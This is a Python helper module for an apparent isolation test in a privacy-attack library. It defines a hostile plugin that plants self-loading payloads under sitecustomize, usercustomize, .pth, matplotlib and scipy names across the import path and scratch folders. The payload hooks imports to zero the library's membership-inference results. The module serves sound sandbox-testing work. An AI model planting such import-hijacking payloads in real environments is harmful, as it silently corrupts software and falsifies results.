"""Hostile plugins against the seal between attacks (issue 53), written as a plugin author would, for
tests/test_seal_isolation.py. Not a test module: the sealed attack process imports it to unpickle the
attack.

``Planter`` first looks for what an earlier attack process left (files in /tmp, /dev/shm, /dev and the
folders of the import path, System V segments), then plants a payload everywhere it can: a module that
makes decpriv's own ``attack=mia`` test zeroed models (every score a tie: AUC 0.5), under the names the
interpreter runs by itself (``sitecustomize``, ``usercustomize``, a ``.pth`` file) and the names of
modules an attack imports (``matplotlib``, ``scipy``), in every folder on the import path and in the
scratch folders. The table ``planter`` says what each write and each look achieved.
"""

import ctypes
import errno
import os
import sys
from pathlib import Path

import pandas as pd

from decpriv.attacks.base import Attack
from decpriv.report.findings import Findings

# what the planted module does wherever it is imported: decpriv's MIA tests zeroed models from then on.
# Under a module's name (matplotlib) it first loads the real module in its place, so nothing breaks.
PAYLOAD = """
import importlib, importlib.abc, importlib.util, os, sys

if __name__ not in ("decpriv_payload", "sitecustomize", "usercustomize"):
    here = os.path.dirname(os.path.abspath(__file__))
    saved = sys.path[:]
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
    del sys.modules[__name__]
    try:
        sys.modules[__name__] = importlib.import_module(__name__)
    finally:
        sys.path[:] = saved

TARGET = "decpriv.attacks.p2p.mia"


def _patch(module):
    run = module.MembershipInference.run

    def zeroed(self, view):
        found = run(self, view)
        found.models.zero_()
        return found

    module.MembershipInference.run = zeroed


class _Hook(importlib.abc.MetaPathFinder):
    busy = False

    def find_spec(self, name, path, target=None):
        if name != TARGET or self.busy:
            return None
        self.busy = True
        try:
            spec = importlib.util.find_spec(name)
        finally:
            self.busy = False
        run = spec.loader.exec_module

        def exec_module(module):
            run(module)
            _patch(module)

        spec.loader.exec_module = exec_module
        return spec


if hasattr(sys.modules.get(TARGET), "MembershipInference"):
    _patch(sys.modules[TARGET])
elif not any(type(f).__name__ == "_Hook" for f in sys.meta_path):
    sys.meta_path.insert(0, _Hook())
"""
NAMES = ("sitecustomize.py", "usercustomize.py", "matplotlib.py", "scipy.py", "decpriv_payload.py")
SHM_KEY = 0x5EA1  # the System V segment a planter leaves for the next
IPC_CREAT, IPC_EXCL = 0o1000, 0o2000


def plant_payload(folder: str) -> str:
    """Write the payload's modules and a ``.pth`` that imports it into ``folder``."""
    try:
        Path(folder).mkdir(parents=True, exist_ok=True)
        for name in NAMES:
            Path(folder, name).write_text(PAYLOAD)
        Path(folder, "decpriv-payload.pth").write_text("import decpriv_payload\n")
        return "ok"
    except OSError as error:
        return f"refused {errno.errorcode.get(error.errno, error.errno)}"


def places() -> list[str]:
    """Every folder the next attack process might import from or read: the import path, the scratch
    folders, /dev, the user site-packages of this HOME."""
    user_site = (
        f"{os.environ.get('HOME', '/tmp')}/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}"
    )
    folders = [p for p in sys.path if os.path.isabs(p) and not p.endswith(".zip")]
    return list(dict.fromkeys([*folders, "/tmp", "/dev/shm", "/dev", f"{user_site}/site-packages"]))


def left_behind() -> str:
    """What an earlier planter left that this process sees: its files, its System V segment."""
    seen = [f"{p}/{n}" for p in places() for n in (*NAMES, "decpriv-payload.pth") if Path(p, n).exists()]
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.shmget(SHM_KEY, 0, 0) >= 0:
        seen.append(f"shm {SHM_KEY:#x}")
    return " ".join(seen) or "nothing"


def leave_segment() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    made = libc.shmget(SHM_KEY, 4096, IPC_CREAT | 0o666)
    return "ok" if made >= 0 else f"refused {errno.errorcode.get(ctypes.get_errno())}"


class Planter(Attack):
    """Looks for an earlier planter's payload, then plants its own (table ``planter``: place, outcome)."""

    name = "planter"
    needs_adversary = False

    def run(self, view):
        rows = [("found", left_behind())]
        rows += [(folder, plant_payload(folder)) for folder in places()]
        rows.append(("shm", leave_segment()))
        return pd.DataFrame(rows, columns=["place", "outcome"])

    def evaluate(self, findings, truth, view):
        return Findings(tables={"planter": findings}, summary={"planter_places": len(findings)})
